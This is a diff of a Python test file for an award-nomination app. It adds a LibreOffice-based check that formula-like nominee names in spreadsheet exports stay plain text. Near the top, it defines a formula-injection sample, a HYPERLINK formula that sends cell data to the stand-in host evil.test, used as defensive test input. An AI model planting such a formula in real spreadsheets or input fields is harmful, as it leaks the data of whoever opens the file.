@@ -2,8 +2,12 @@
 formula is written as text in every export and template (issue 20, item 10); an import is
 refused whole above its row limit (item 11); a sheet whose XML is broken or declares
 entities is the same clear refusal as any unreadable file (item 12)."""
+import csv
 import io
+import shutil
+import subprocess
 import zipfile
+from pathlib import Path
 
 import openpyxl
 import pytest
@@ -14,6 +18,7 @@ from app.models import AwardForm, AwardRecord, Nominee
 from app.services import decisions, dossiers, exports, imports
 from app.services.errors import Invalid
 from tests import helpers
+from tests.tools import missing
 
 # What a hostile or merely unlucky name looks like: each starts a formula in a spreadsheet.
 FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Bấm vào đây")'
@@ -142,6 +147,34 @@ def test_templates_write_formula_like_text_as_text(world, hostile):
     assert HOSTILE["form"] in [c.value for c in wb["Danh mục"]["F"]]  # the drop-down's list
     wb = _workbook(imports.award_template(world.users["board_head"]))
     _no_formula(wb, [HOSTILE["form"]])
+
+
+CALC = Path("/usr/lib/libreoffice/program/libsclo.so")
+
+
+def test_libreoffice_reads_formula_like_text_as_text(world, hostile, tmp_path):
+    """What a person opening the export sees: LibreOffice Calc, converting the nominee
+    export to CSV, shows every such name as typed, none evaluated."""
+    if shutil.which("soffice") is None or not CALC.exists():
+        missing("LibreOffice Calc is not installed; `make test` installs it "
+                "(libreoffice-calc-nogui)")
+    campaign, _dossier, _decision = hostile
+    _, data = exports.nominees(world.users["board_head"], campaign.id)
+    with data:
+        (tmp_path / "ds.xlsx").write_bytes(data.read())
+    subprocess.run(
+        ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
+         "--norestore", "--convert-to",
+         'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1',
+         "--outdir", str(tmp_path), str(tmp_path / "ds.xlsx")],
+        check=True, timeout=180, capture_output=True)
+    (sheet,) = tmp_path.glob("*.csv")  # one per sheet: «ds-Danh sách đề nghị.csv»
+    with open(sheet, encoding="utf-8", newline="") as out:
+        cells = {cell for row in csv.reader(out) for cell in row}
+    expected = [HOSTILE[k] for k in ("unit", "collective", "an", "binh", "cuong", "position",
+                                     "organisation", "reason", "form")]
+    assert [v for v in expected if v not in cells] == []
+    assert "Bấm vào đây" not in cells  # the link's text: what it would show if it ran
 
 
 def test_formula_like_text_survives_an_export_and_import_round_trip(world, hostile):
